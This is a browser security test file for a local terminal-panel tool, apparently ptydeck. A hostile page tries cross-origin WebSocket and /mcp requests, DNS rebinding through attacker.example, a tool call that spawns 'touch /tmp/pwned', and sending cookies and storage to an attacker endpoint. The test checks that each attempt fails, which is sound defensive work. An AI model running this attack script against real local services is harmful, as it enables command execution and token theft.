// A hostile web page in the developer's own browser: served from another
// localhost port (same site as the panel: a browser would send it any cookie
// of this host, which is why ptydeck sets none), and through DNS rebinding
// (attacker.example resolving to 127.0.0.1). It tries to open the panel
// WebSocket, call /mcp, mint a panel link, trade a ticket and learn a token.
// Every attempt fails, and nothing is spawned.
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from './fixtures.js';

const executablePath = process.env.PTYDECK_CHROMIUM;
// DNS rebinding without DNS: Chromium resolves attacker.example to loopback.
test.use({
  launchOptions: {
    ...(executablePath ? { executablePath } : {}),
    args: [
      ...(process.getuid?.() === 0 ? ['--no-sandbox'] : []),
      '--disable-gpu',
      '--no-first-run',
      '--host-resolver-rules=MAP attacker.example 127.0.0.1',
    ],
  },
});

interface Seen {
  method: string;
  url: string;
  headers: IncomingMessage['headers'];
  body: string;
}

/** The attacker's server: serves the hostile page and records everything that reaches it. */
async function hostileServer(page: string): Promise<{ server: Server; port: number; seen: Seen[] }> {
  const seen: Seen[] = [];
  const server = createServer((req, res) => {
    let body = '';
    req.on('data', (chunk: Buffer) => (body += chunk.toString()));
    req.on('end', () => {
      seen.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, body });
      if (req.url === '/report') return void res.writeHead(204).end();
      res.writeHead(200, { 'Content-Type': 'text/html' });
      res.end(page);
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, port: (server.address() as AddressInfo).port, seen };
}

/** Runs in the hostile page: every attack, each settled with what the page could observe. */
function attackScript(target: string, rebound: string): string {
  return `
  <script>
  const results = {};
  const settle = (name, promise) => promise.then((v) => (results[name] = v), (e) => (results[name] = 'threw: ' + e));
  function socket(url, protocols) {
    return new Promise((resolve) => {
      let ws;
      try { ws = new WebSocket(url, protocols); } catch (e) { return resolve('threw: ' + e); }
      const messages = [];
      ws.onmessage = (m) => messages.push(String(m.data).slice(0, 200));
      ws.onopen = () => setTimeout(() => { ws.close(); resolve('OPENED ' + messages.join('|')); }, 300);
      ws.onclose = (e) => resolve('closed ' + e.code);
    });
  }
  const init = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'initialize', params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'hostile', version: '1' } } });
  const create = JSON.stringify({ jsonrpc: '2.0', id: 2, method: 'tools/call', params: { name: 'terminal_create', arguments: { command: 'touch', args: ['/tmp/pwned'] } } });
  const readable = (r) => r.type === 'opaque' ? 'opaque ' + r.status : r.text().then((t) => 'READ ' + r.status + ' ' + t.slice(0, 300));
  window.attacks = Promise.all([
    settle('ws plain', socket('${target.replace('http', 'ws')}/panel')),
    settle('ws guessed token', socket('${target.replace('http', 'ws')}/panel', ['ptydeck.v1', 'ptydeck.token.guess'])),
    settle('ws rebinding', socket('${rebound.replace('http', 'ws')}/panel', ['ptydeck.v1'])),
    settle('mcp cors', fetch('${target}/mcp', { method: 'POST', headers: { 'Content-Type': 'application/json', Accept: 'application/json, text/event-stream' }, body: init }).then(readable)),
    settle('mcp no-cors', fetch('${target}/mcp', { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: init }).then(readable)),
    settle('mcp no-cors tool call', fetch('${target}/mcp', { method: 'POST', mode: 'no-cors', credentials: 'include', body: create }).then(readable)),
    settle('mcp rebinding', fetch('${rebound}/mcp', { method: 'POST', mode: 'no-cors', body: init }).then(readable)),
    settle('ticket', fetch('${target}/ticket', { method: 'POST', mode: 'no-cors', credentials: 'include' }).then(readable)),
    settle('ticket exchange', fetch('${target}/ticket/exchange', { method: 'POST', mode: 'no-cors', credentials: 'include', body: JSON.stringify({ ticket: 'guess' }) }).then(readable)),
    settle('read the panel page', fetch('${target}/', { credentials: 'include' }).then(readable)),
    settle('frame the panel', new Promise((resolve) => {
      const frame = document.createElement('iframe');
      frame.src = '${target}/';
      frame.onload = () => { try { resolve('READ ' + frame.contentWindow.document.documentElement.outerHTML.slice(0, 200)); } catch (e) { resolve('threw: ' + e); } };
      document.body.appendChild(frame);
    })),
  ]).then(() => {
    results.cookies = document.cookie;
    results.storage = JSON.stringify(localStorage) + JSON.stringify(sessionStorage);
    return fetch('/report', { method: 'POST', body: JSON.stringify(results) }).then(() => results);
  });
  </script>`;
}

test('a page from another origin cannot open the panel socket, call /mcp or learn the token, even with the panel open beside it', async ({ panel, server, context }) => {
  const sessionsBefore = (await server.sessions()).length;
  const createdBefore = await server.created();
  // The developer's panel is open and connected in this browser, and it left no cookie a
  // server on another port of this host could receive.
  const panelSockets: string[] = [];
  panel.on('websocket', (ws) => panelSockets.push(ws.url()));
  expect(await context.cookies()).toEqual([]);
  const secrets = [server.agentToken, server.panelToken];

  const rebound = `http://attacker.example:${server.port}`;
  const hostile = await hostileServer(`<!doctype html><title>cute cats</title>${attackScript(server.url, rebound)}`);
  try {
    const evil = await context.newPage();
    await evil.goto(`http://127.0.0.1:${hostile.port}/`);
    const results = (await evil.evaluate(() => (window as unknown as { attacks: Promise<Record<string, string>> }).attacks)) as Record<string, string>;

    for (const name of ['ws plain', 'ws guessed token', 'ws rebinding']) expect(results[name], name).toMatch(/^closed 1006$/);
    for (const name of ['mcp cors', 'read the panel page']) expect(results[name], name).toMatch(/^threw: TypeError/);
    // no-cors requests do reach the server; the page sees an opaque answer and the server refuses them before acting.
    for (const name of ['mcp no-cors', 'mcp no-cors tool call', 'mcp rebinding', 'ticket', 'ticket exchange']) expect(results[name], name).toBe('opaque 0');
    expect(results['frame the panel'], 'the panel cannot be framed or read').not.toMatch(/^READ/);
    expect(results.cookies, 'no cookie of this host').toBe('');
    // Every request the browser sent the attacker's port came without a cookie.
    for (const request of hostile.seen) expect(request.headers.cookie, `${request.method} ${request.url}`).toBeUndefined();

    // A DNS-rebinding page cannot even load from ptydeck's port.
    const rebindPage = await context.newPage();
    const response = await rebindPage.goto(`${rebound}/`);
    expect(response?.status()).toBe(403);
    for (const secret of secrets) expect(await rebindPage.content()).not.toContain(secret);

    // Nothing the attacker saw or was sent carries a token, and nothing was spawned or registered.
    const everything = JSON.stringify(results) + JSON.stringify(hostile.seen);
    for (const secret of secrets) expect(everything).not.toContain(secret);
    expect(hostile.seen.some((s) => s.url === '/report')).toBe(true);
    expect((await server.created()) - createdBefore, 'sessions created by the hostile page').toBe(0);
    expect((await server.sessions()).length).toBe(sessionsBefore);
    expect(await server.agents()).toEqual([]);

    // The developer's own panel, meanwhile: the ticket left its URL, the agent token never reached
    // it, and the panel token sits only in its own origin's session storage, never in a socket URL.
    expect(panel.url()).toBe(`${server.url}/`);
    const exposed = await panel.evaluate(() => document.documentElement.outerHTML + JSON.stringify(localStorage) + location.href + document.cookie);
    for (const secret of secrets) expect(exposed).not.toContain(secret);
    expect(await panel.evaluate(() => sessionStorage.getItem('ptydeck.panelToken'))).toBe(server.panelToken);
    for (const url of panelSockets) for (const secret of secrets) expect(url).not.toContain(secret);
    await expect(panel.getByTestId('connection-status')).toHaveAttribute('data-state', 'connected');
  } finally {
    // The hostile page's keep-alive connections (its favicon request may still
    // be in flight) would hold close() open until the test times out.
    hostile.server.closeAllConnections();
    await new Promise((resolve) => hostile.server.close(resolve));
  }
});
